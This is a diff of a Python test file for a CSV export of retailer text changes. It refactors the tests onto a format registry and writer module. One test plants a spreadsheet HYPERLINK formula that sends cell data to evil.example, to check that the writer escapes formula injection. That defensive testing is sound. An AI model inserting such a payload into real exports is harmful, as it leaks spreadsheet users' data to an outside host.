@@ -9,12 +9,16 @@ from hypothesis import strategies as st
 from sqlite_utils import Database
 
 from db.errors import ExportTargetError
-from db.export import csv_changes
+from db.export import formats
 from db.export.evidence import ExportFilter, ExportResult
+from db.export.tables import changes
+from db.export.writers import csv as csv_writer
 from tests.support import loaders
 from tests.support.citations import ALL, CITING, export, fill
 from tests.support.shop import Shop
 
+CSV = formats.named("csv")
+HEADER = [column.name for column in changes.COLUMNS if column.name not in ("removed", "added", "places")]
 BEGINNINGS = "=+-@\t\r\n＝＋－＠"
 
 
@@ -25,11 +29,11 @@ def rows(place: Path) -> list[dict[str, str]]:
 
 def test_a_change_has_both_its_captures(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
     fill(shelf, neighbour)
-    assert export(csv_changes, db, tmp_path / "x.csv") == ExportResult(2, 0)
-    assert export(csv_changes, db, tmp_path / "x.csv") == ExportResult(0, 2)
+    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(2, 0)
+    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(0, 2)
     first, second = rows(tmp_path / "x.csv")
-    assert list(first) == list(csv_changes.HEADER)
-    assert [first[name] for name in csv_changes.HEADER[:8]] == [
+    assert list(first) == HEADER
+    assert [first[name] for name in HEADER[:8]] == [
         "shop.example",
         "wording",
         "1",
@@ -57,9 +61,9 @@ def test_a_change_has_both_its_captures(db: Database, shelf: Shop, neighbour: Sh
 
 
 def test_no_change_leaves_a_header(db: Database, tmp_path: Path):
-    assert export(csv_changes, db, tmp_path / "x.csv") == ExportResult(0, 0)
-    assert (tmp_path / "x.csv").read_bytes() == ",".join(csv_changes.HEADER).encode() + b"\r\n"
-    assert export(csv_changes, db, tmp_path / "x.csv") == ExportResult(0, 0)
+    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(0, 0)
+    assert (tmp_path / "x.csv").read_bytes() == ",".join(HEADER).encode() + b"\r\n"
+    assert export(CSV, db, tmp_path / "x.csv") == ExportResult(0, 0)
 
 
 WITH_PANDAS = """
@@ -74,7 +78,7 @@ report(str(frame["similarity"].dtype))
 @loaders.needed
 def test_pandas_loads_it(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
     fill(shelf, neighbour)
-    export(csv_changes, db, tmp_path)
+    export(CSV, db, tmp_path)
     assert loaders.run_code(WITH_PANDAS, tmp_path) == [[6, 1], [365, 365], "float64"]
 
 
@@ -83,13 +87,13 @@ def test_a_title_is_no_formula(db: Database, shelf: Shop, neighbour: Shop, tmp_p
     fill(shelf, neighbour)
     title = f'{beginning}HYPERLINK("http://evil.example/?x="&A1,"Click")'
     db.execute("update texts set title = ?", [title])
-    export(csv_changes, db, tmp_path / "x.csv")
+    export(CSV, db, tmp_path / "x.csv")
     assert [of["title"] for of in rows(tmp_path / "x.csv")] == [f"'{title}"] * 2
 
 
 @given(st.text())
 def test_no_text_begins_a_formula(text: str):
-    said = str(csv_changes.safe(text))
+    said = str(csv_writer.safe(text))
     assert said.removeprefix("'") == text.removeprefix("'")
     assert said.lstrip()[:1] not in set(BEGINNINGS)
     assert said[:1] not in set(BEGINNINGS)
@@ -97,17 +101,17 @@ def test_no_text_begins_a_formula(text: str):
 
 @given(st.integers() | st.floats())
 def test_numbers_stay_numbers(number: float):
-    assert csv_changes.safe(number) is number
+    assert csv_writer.safe(number) is number
 
 
 def test_a_file_of_another_is_left(db: Database, shelf: Shop, tmp_path: Path):
     (tmp_path / "x.csv").write_text("retailer,kind\ntheirs,theirs\n")
     with pytest.raises(ExportTargetError, match="was not written by this export"):
-        csv_changes.export(db, tmp_path / "x.csv", ALL, CITING, lambda _: None)
+        CSV.export(db, tmp_path / "x.csv", ALL, CITING, lambda _: None)
     assert (tmp_path / "x.csv").read_text() == "retailer,kind\ntheirs,theirs\n"
 
 
 def test_the_latest_of_each(db: Database, shelf: Shop, neighbour: Shop, tmp_path: Path):
     fill(shelf, neighbour)
-    assert export(csv_changes, db, tmp_path / "x.csv", ExportFilter(latest=True)) == ExportResult(1, 0)
+    assert export(CSV, db, tmp_path / "x.csv", ExportFilter(latest=True)) == ExportResult(1, 0)
     assert [of["old_version"] for of in rows(tmp_path / "x.csv")] == ["2"]
